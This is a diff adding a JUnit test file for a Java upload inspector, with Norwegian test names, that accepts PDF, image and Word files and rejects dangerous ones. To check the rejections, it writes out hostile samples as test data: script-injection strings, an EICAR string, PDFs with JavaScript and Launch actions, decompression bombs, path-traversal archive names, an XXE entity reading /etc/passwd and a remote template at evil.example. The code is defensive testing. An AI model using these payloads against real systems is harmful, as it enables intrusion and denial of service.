@@ -1,0 +1,259 @@
+package no.innovasjonsskolen.document;
+
+import static no.innovasjonsskolen.document.Corpus.archive;
+import static no.innovasjonsskolen.document.Corpus.both;
+import static no.innovasjonsskolen.document.Corpus.openDocument;
+import static no.innovasjonsskolen.document.Corpus.pdf;
+import static no.innovasjonsskolen.document.Corpus.pdfThat;
+import static no.innovasjonsskolen.document.Corpus.picture;
+import static no.innovasjonsskolen.document.Corpus.text;
+import static no.innovasjonsskolen.document.Corpus.word;
+import static no.innovasjonsskolen.document.Corpus.wordWith;
+import static org.apache.pdfbox.pdfwriter.compress.CompressParameters.DEFAULT_COMPRESSION;
+import static org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeout;
+
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.Arrays;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.zip.Deflater;
+import no.innovasjonsskolen.document.Inspection.Fit;
+import no.innovasjonsskolen.document.Inspection.Other;
+import no.innovasjonsskolen.document.Inspection.Unfit;
+import no.innovasjonsskolen.document.Received.Reason;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class InspectorTest {
+
+    @TempDir
+    private Path folder;
+
+    private final Inspector inspector = new Inspector();
+
+    @Test
+    @DisplayName("Filene folk har, tas imot: PDF, JPEG, PNG, Word og ODT, også uten eller med gal endelse")
+    void takesOrdinaryFiles() {
+        taken("vitnemål.pdf", pdf(), FileKind.PDF);
+        taken("vitnemål.PDF", pdf(_ -> {}, NO_COMPRESSION), FileKind.PDF);
+        taken("bilde.jpeg", picture("jpg"), FileKind.JPEG);
+        taken("bilde.jpg", both(picture("jpg"), text("more pictures")), FileKind.JPEG);
+        taken("bilde.png", picture("png"), FileKind.PNG);
+        taken("bilde.jpg", picture("png"), FileKind.PNG);
+        taken("vitnemål", pdf(), FileKind.PDF);
+        taken("cv.docx", word(), FileKind.DOCX);
+        taken("cv.docx", wordWith("word/embeddings/sheet1.xlsx", archive(Map.of("a.xml", text("<a/>")))),
+                FileKind.DOCX);
+        taken("cv.odt", openDocument(Map.of("META-INF/manifest.xml", "<manifest/>")), FileKind.ODT);
+        assertThat(FileName.of("bilde.jpg").as(FileKind.PNG)).isEqualTo("bilde.png");
+        assertThat(FileName.of("vitnemål").as(FileKind.PDF)).isEqualTo("vitnemål.pdf");
+    }
+
+    @Test
+    @DisplayName("Andre slags filer blir avvist, og vi sier hva de er")
+    void refusesOtherKinds() {
+        refused("side.pdf", text("<!DOCTYPE html><html><script>alert(1)</script></html>"), "text/html");
+        refused("tegning.png", text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+                "image/svg+xml");
+        refused("tegning.svg", text("<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
+                "image/svg+xml");
+        refused("bilde.jpg", text("GIF89a/*\0\0\0\0*/=1;alert(1)//"), "image/gif");
+        refused("program.pdf", both(new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0}, new byte[500]),
+                "application/x-msdownload");
+        refused("virus.pdf", Corpus.EICAR, "text/plain");
+        refused("arkiv.docx", archive(Map.of("a.txt", text("a"))), "application/zip");
+        refused("vitnemål.pdf.exe", pdf(), "application/pdf");
+        refused("gammelt.docx", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1,
+            (byte) 0xB1, 0x1A, (byte) 0xE1, 0, 0, 0, 0}, "application/x-tika-msoffice");
+    }
+
+    @Test
+    @DisplayName("En tom, avkuttet eller ødelagt fil blir avvist som skadet")
+    void refusesDamaged() {
+        unfit("tom.pdf", new byte[0], Reason.EMPTY);
+        for (var whole : Map.of("a.pdf", pdf(), "a.png", picture("png"), "a.docx", word(),
+                "a.jpg", picture("jpg")).entrySet()) {
+            for (int part = 1; part < 4; part++) {
+                var cut = Arrays.copyOf(whole.getValue(), whole.getValue().length * part / 4);
+                unfit(whole.getKey(), cut, Reason.DAMAGED);
+            }
+        }
+        unfit("a.pdf", text("%PDF-1.7\n%%EOF"), Reason.DAMAGED);
+        unfit("a.pdf", text("%PDF-1.7\nstartxref\n99999999999999\n%%EOF"), Reason.DAMAGED);
+        unfit("a.pdf", text("%PDF-1.7\nxref\nstartxref\n9\n%%EOF"), Reason.DAMAGED);
+    }
+
+    @Test
+    @DisplayName("En PDF med skript eller programstart blir avvist, også når det er gjemt")
+    void refusesActivePdf() {
+        for (var packing : List.of(NO_COMPRESSION, DEFAULT_COMPRESSION)) {
+            unfit("a.pdf", pdfThat(new PDActionJavaScript("app.alert(1)"), packing), Reason.ACTIVE);
+            unfit("a.pdf", pdfThat(new PDActionLaunch(), packing), Reason.ACTIVE);
+        }
+        unfit("a.pdf", spelled("/J#61vaScript"), Reason.ACTIVE);
+        unfit("a.pdf", hidden("(", "/JS"), Reason.ACTIVE);
+        unfit("a.pdf", hidden("<< /Length 9 >>\nstream\n", "/JS"), Reason.ACTIVE);
+        unfit("a.pdf", hidden("% ", "/JS"), Reason.ACTIVE);
+        taken("a.pdf", pdf(document -> document.getDocumentInformation().setTitle("HTML /JS /Launch (/JS)"),
+                NO_COMPRESSION), FileKind.PDF);
+    }
+
+    @Test
+    @DisplayName("En låst PDF og et låst dokument blir avvist, og vi sier at de er låst")
+    void refusesLocked() {
+        unfit("a.pdf", Corpus.lockedPdf(), Reason.LOCKED);
+        unfit("a.odt", openDocument(Map.of("META-INF/manifest.xml", "<manifest:encryption-data/>")),
+                Reason.LOCKED);
+        var flagged = word();
+        for (int i = 0; i < flagged.length - 4; i++) {
+            if (flagged[i] == 'P' && flagged[i + 1] == 'K' && flagged[i + 2] == 1 && flagged[i + 3] == 2) {
+                flagged[i + 8] |= 1;
+            }
+        }
+        unfit("a.docx", flagged, Reason.LOCKED);
+    }
+
+    @Test
+    @DisplayName("Bomber blir avvist på et øyeblikk: arkiver som er mye større inni, og bilder uten ende")
+    void refusesBombs() {
+        var bomb = Corpus.bomb();
+        assertThat(bomb.length).isLessThan(400_000);
+        unfit("a.docx", bomb, Reason.SWOLLEN);
+        unfit("a.docx", wordWith("word/embeddings/sheet1.xlsx", bomb), Reason.SWOLLEN);
+        unfit("a.docx", wordWith("word/embeddings/a.xlsx", archive(Map.of("b.zip", word()))), Reason.SWOLLEN);
+        unfit("a.docx", wordWith("customXml/a.zip", word()), Reason.TWO_IN_ONE);
+        var many = new LinkedHashMap<String, byte[]>();
+        for (int i = 0; i < 10_000; i++) {
+            many.put("word/" + i + ".xml", new byte[0]);
+        }
+        unfit("a.docx", archive(many), Reason.SWOLLEN);
+        unfit("a.png", Corpus.floodedPng(), Reason.SWOLLEN);
+        unfit("a.jpg", Corpus.floodedJpeg(), Reason.SWOLLEN);
+        unfit("a.pdf", swollenPdf(), Reason.SWOLLEN);
+    }
+
+    @Test
+    @DisplayName("To filer i én blir avvist: arkiv bak et bilde, navn som peker ut, lenker og dobbelte navn")
+    void refusesTwoInOne() {
+        unfit("a.pdf", both(pdf(), word()), Reason.TWO_IN_ONE);
+        unfit("a.jpg", both(picture("jpg"), word()), Reason.TWO_IN_ONE);
+        unfit("a.png", both(picture("png"), text("<script>")), Reason.TWO_IN_ONE);
+        unfit("a.docx", both(word(), word()), Reason.TWO_IN_ONE);
+        for (var name : new String[] {"../../etc/passwd", "/etc/passwd", "word\\..\\a", "c:/a", "a/./b",
+            "a//b"}) {
+            unfit("a.docx", wordWith(name, text("a")), Reason.TWO_IN_ONE);
+        }
+        unfit("a.docx", wordWith("WORD/document.xml", text("a")), Reason.TWO_IN_ONE);
+        var link = wordWith("word/link", text("/etc/passwd"));
+        var header = new String(link, StandardCharsets.ISO_8859_1).lastIndexOf("PK\u0001\u0002");
+        link[header + 41] = (byte) 0xA1;
+        unfit("a.docx", link, Reason.TWO_IN_ONE);
+    }
+
+    @Test
+    @DisplayName("Word med makroer, programmer, skjulte kilder eller en mal fra nettet blir avvist")
+    void refusesActiveWord() {
+        for (var name : new String[] {"word/vbaProject.bin", "word/activeX/activeX1.xml", "word/media/a.EXE",
+            "word/embeddings/oleObject1.bin"}) {
+            unfit("a.docx", wordWith(name, text("a")), Reason.ACTIVE);
+        }
+        unfit("a.docx", wordWith("word/styles.xml",
+                text("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>")), Reason.ACTIVE);
+        unfit("a.docx", wordWith("word/styles.xml", "<!DOCTYPE x []>".getBytes(StandardCharsets.UTF_16)),
+                Reason.ACTIVE);
+        var relations = "word/_rels/settings.xml.rels";
+        unfit("a.docx", wordWith(relations, text("<Relationship Id=\"a\" Type=\"http://x/attachedTemplate\" "
+                + "Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/>")), Reason.ACTIVE);
+        taken("a.docx", wordWith(relations, text("<Relationship Id=\"a\" Type=\"http://x/attachedTemplate\" "
+                + "Target=\"file:///C:/maler/brev.dotm\" TargetMode=\"External\"/><Relationship Id=\"b\" "
+                + "Type=\"http://x/hyperlink\" Target=\"https://ks.no/\"/>")), FileKind.DOCX);
+        unfit("a.odt", openDocument(Map.of("Basic/Standard/Module1.xml", "<a/>")), Reason.ACTIVE);
+    }
+
+    @Test
+    @DisplayName("Hva som helst inn: det kommer alltid et svar, og det kommer fort")
+    void alwaysAnswers() {
+        var wholes = List.of(pdf(), pdf(_ -> {}, NO_COMPRESSION), picture("png"), picture("jpg"), word());
+        for (int trial = 0; trial < 1_500; trial++) {
+            var random = new Random(trial);
+            var bytes = wholes.get(random.nextInt(wholes.size())).clone();
+            for (int i = random.nextInt(20); i >= 0; i--) {
+                bytes[random.nextInt(8, bytes.length)] = (byte) random.nextInt();
+            }
+            var name = new String[] {"a.pdf", "a.png", "a.jpg", "a.docx", "a"}[random.nextInt(5)];
+
+            assertTimeout(Duration.ofSeconds(5), () -> look(name, bytes), "trial " + trial);
+        }
+        for (var bad : new String[] {"1 0 obj (", "1 0 obj <</a", "(((((((((", "<< /ObjStm >>\nstream\n"}) {
+            var bytes = text("%PDF-1.7\n" + bad.repeat(9_000_000 / bad.length())
+                    + "\nxref\nstartxref\n9\n%%EOF");
+
+            assertTimeout(Duration.ofSeconds(10), () -> look("a.pdf", bytes), bad);
+        }
+    }
+
+    private void taken(String name, byte[] content, FileKind kind) {
+        assertThat(look(name, content)).as(name).isEqualTo(new Fit(kind));
+    }
+
+    private void refused(String name, byte[] content, String found) {
+        assertThat(look(name, content)).as(name).isEqualTo(new Other(found));
+    }
+
+    private void unfit(String name, byte[] content, Reason reason) {
+        assertThat(look(name, content)).as(name).isEqualTo(new Unfit(reason));
+    }
+
+    private Inspection look(String name, byte[] content) {
+        try {
+            var file = folder.resolve("file");
+            Files.write(file, content);
+            return inspector.inspect(file, FileName.of(name));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** A PDF whose opening action is spelled like this. */
+    private static byte[] spelled(String action) {
+        return object("", "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S " + action + " >> >>");
+    }
+
+    /** A PDF with something between its objects that might swallow the next one. */
+    private static byte[] hidden(String swallower, String action) {
+        return object(swallower, "<< /Type /Catalog /Pages 2 0 R /OpenAction << " + action + " (a) >> >>");
+    }
+
+    private static byte[] object(String before, String catalog) {
+        var body = "%PDF-1.7\n" + before + "\n1 0 obj\n" + catalog + "\nendobj\n";
+        return text(body + "xref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n" + body.length()
+                + "\n%%EOF\n");
+    }
+
+    /** Pictures in it unfold into more than half a gigabyte. */
+    private static byte[] swollenPdf() {
+        var packer = new Deflater();
+        packer.setInput(new byte[60_000_000]);
+        packer.finish();
+        var packed = new byte[100_000];
+        var stream = new String(Arrays.copyOf(packed, packer.deflate(packed)), StandardCharsets.ISO_8859_1);
+        var streams = new StringBuilder("%PDF-1.7\nxref\n");
+        for (int i = 1; i < 12; i++) {
+            streams.append(i).append(" 0 obj\n<< /Filter /FlateDecode >>\nstream\n").append(stream)
+                    .append("\nendstream\nendobj\n");
+        }
+        return text(streams.append("<< /Pages 1 0 R >>\nstartxref\n9\n%%EOF\n").toString());
+    }
+}
